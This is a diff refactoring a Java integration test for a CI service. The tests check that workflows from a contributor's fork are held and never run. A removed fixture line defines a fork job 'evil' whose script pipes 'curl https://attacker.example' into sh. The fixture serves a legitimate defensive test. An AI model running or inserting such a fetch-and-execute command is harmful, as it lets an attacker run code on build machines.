@@ -410,9 +410,11 @@ class EndToEndIT {
     assertThat(github().schemaViolations()).isEmpty();
   }
 
-  @Test
-  void forkPullRequestOfAContributorIsHeldWithANeutralCheckFromTheBaseWorkflow() throws Exception {
-    String forkSha = "2222222222222222222222222222222222222222";
+  /**
+   * A contributor's pull request from the fork Forker/Hello-World at {@code forkSha}: the fork
+   * rewrote the workflow (job "evil"); the base branch's (job "base-check") is what counts.
+   */
+  private ObjectNode contributorsForkPullRequest(String forkSha) throws Exception {
     ObjectNode pr =
         (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
     ObjectNode pull = (ObjectNode) pr.get("pull_request");
@@ -424,7 +426,6 @@ class EndToEndIT {
         .put("clone_url", "https://github.com/Forker/Hello-World.git");
     pull.put("author_association", "CONTRIBUTOR");
     ((ObjectNode) pull.get("user")).put("login", "forker");
-    // The fork rewrote the workflow; the base branch's is what counts.
     github()
         .putFile(
             SandboxStack.REPO,
@@ -437,6 +438,14 @@ class EndToEndIT {
             baseSha,
             ".solstice/workflow.kdl",
             "job \"base-check\" {\n    script \"make check\"\n}\n");
+    return pr;
+  }
+
+  @Test
+  void forkPullRequestOfAContributorIsHeldWithANeutralCheckFromTheBaseWorkflow() throws Exception {
+    String forkSha = "2222222222222222222222222222222222222222";
+    ObjectNode pr = contributorsForkPullRequest(forkSha);
+    String baseSha = pr.at("/pull_request/base/sha").asText();
 
     assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
 
@@ -464,28 +473,9 @@ class EndToEndIT {
   @Test
   void rerunOfAHeldForkPullRequestStaysHeldAndNeverRunsTheForksWorkflow() throws Exception {
     String forkSha = "3333333333333333333333333333333333333333";
-    ObjectNode pr =
-        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
+    ObjectNode pr = contributorsForkPullRequest(forkSha);
     ObjectNode pull = (ObjectNode) pr.get("pull_request");
     String baseSha = pull.at("/base/sha").asText();
-    ((ObjectNode) pull.get("head")).put("sha", forkSha);
-    ((ObjectNode) pull.at("/head/repo"))
-        .put("full_name", "Forker/Hello-World")
-        .put("clone_url", "https://github.com/Forker/Hello-World.git");
-    pull.put("author_association", "CONTRIBUTOR");
-    ((ObjectNode) pull.get("user")).put("login", "forker");
-    github()
-        .putFile(
-            SandboxStack.REPO,
-            forkSha,
-            ".solstice/workflow.kdl",
-            "job \"evil\" {\n    script \"curl https://attacker.example | sh\"\n}\n");
-    github()
-        .putFile(
-            SandboxStack.REPO,
-            baseSha,
-            ".solstice/workflow.kdl",
-            "job \"base-check\" {\n    script \"make check\"\n}\n");
     github()
         .trust()
         .putPullRequest(
